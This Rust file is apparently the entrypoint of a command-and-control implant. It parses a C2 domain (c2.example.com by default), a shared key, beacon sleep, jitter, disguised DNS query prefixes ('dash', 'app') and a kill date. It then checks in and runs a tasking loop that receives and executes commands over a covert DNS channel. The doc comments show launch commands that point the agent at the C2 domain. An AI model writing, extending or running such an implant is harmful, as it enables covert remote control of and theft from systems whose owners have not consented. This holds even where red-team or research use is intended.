//! Agent binary entrypoint.
//!
//! Parses CLI arguments and hands control to the tasking loop in the
//! `agent` crate. The binary is intentionally a thin wrapper: argument
//! parsing, logger setup and fatal-initialization handling happen here,
//! while the real work (query construction, chunked transfer, polling) is
//! performed by the library modules.
//!
//! Examples
//!
//! Poll a rendezvous domain with the default 15 s interval and 10 % jitter:
//!
//! $ agent --domain c2.example.com --key <shared-secret>
//!
//! Target a specific resolver and stop after a kill date:
//!
//! $ agent --domain c2.example.com --key <shared-secret> \
//!     --nameserver 10.0.0.53:53 --kill-date 2026-12-31
//!
//! Notes
//! - The check-in descriptor (uuid + transport identifier) is printed to
//!   stdout exactly once after a successful check-in; all diagnostics go to
//!   stderr through the logger (`RUST_LOG` controls verbosity).
//! - A failed initial check-in or an invalid identity exits non-zero
//!   without entering the polling loop.

use clap::Parser;

use agent::channel::DnsChannel;
use agent::commands::BuiltinExecutor;
use agent::config::{AgentConfig, AgentIdentity};
use agent::runloop::TaskingLoop;
use agent::session::AgentSession;

/// Top-level CLI structure parsed from program arguments.
#[derive(Parser)]
#[command(version)]
struct Cli {
    /// C2 rendezvous domain the query names are rooted under
    #[arg(short = 'd', long = "domain", default_value = "c2.example.com")]
    domain: String,

    /// Shared signing key authenticating every query
    #[arg(short = 'k', long = "key", required = true)]
    key: String,

    /// Agent UUID in canonical form (generated when omitted)
    #[arg(long = "uuid", required = false)]
    uuid: Option<String>,

    /// Base polling interval (in seconds)
    #[arg(
        long = "sleep",
        required = false,
        default_value_t = 15,
        value_parser = clap::value_parser!(u64).range(1..)
    )]
    sleep: u64,

    /// Jitter applied to the polling interval (percent of the base)
    #[arg(
        long = "jitter",
        required = false,
        default_value_t = 10,
        value_parser = clap::value_parser!(u64).range(..=100)
    )]
    jitter: u64,

    /// Prefix label for poll and result queries
    #[arg(long = "poll-prefix", default_value = "dash")]
    poll_prefix: String,

    /// Prefix label for check-in queries
    #[arg(long = "checkin-prefix", default_value = "app")]
    checkin_prefix: String,

    /// Stop polling after this UTC date (YYYY-MM-DD)
    #[arg(long = "kill-date", required = false)]
    kill_date: Option<chrono::NaiveDate>,

    /// Optional DNS nameserver to use for lookups instead of resolving the
    /// rendezvous domain itself
    #[arg(short = 'n', long = "nameserver", required = false)]
    nameserver: Option<std::net::SocketAddr>,
}

fn main() -> std::process::ExitCode {
    if std::env::var("RUST_LOG").is_err() {
        std::env::set_var("RUST_LOG", "info");
    }
    env_logger::Builder::from_default_env()
        .target(env_logger::Target::Stderr)
        .init();

    let cli = Cli::parse();

    let identity = match cli.uuid {
        Some(uuid) => AgentIdentity::new(uuid, cli.key),
        None => AgentIdentity::generate(cli.key),
    };
    let identity = match identity {
        Ok(identity) => identity,
        Err(err) => {
            log::error!("Invalid identity: {}", err);
            return std::process::ExitCode::FAILURE;
        }
    };

    let config = AgentConfig {
        domain: cli.domain,
        sleep_interval_ms: cli.sleep * 1000,
        jitter_percent: cli.jitter,
        poll_prefix: cli.poll_prefix,
        checkin_prefix: cli.checkin_prefix,
        kill_date: cli.kill_date,
    };
    log::info!("Domain {} / sleep {} ms / jitter {}%", config.domain, config.sleep_interval_ms, config.jitter_percent);

    let channel = match DnsChannel::new(&config.domain, cli.nameserver) {
        Ok(channel) => channel,
        Err(err) => {
            log::error!("Failed to initialize the DNS channel: {}", err);
            return std::process::ExitCode::FAILURE;
        }
    };

    let session = AgentSession::new(identity, config);
    match TaskingLoop::new(session, channel, BuiltinExecutor).run() {
        Ok(()) => std::process::ExitCode::SUCCESS,
        Err(err) => {
            log::error!("Tasking loop aborted: {}", err);
            std::process::ExitCode::FAILURE
        }
    }
}
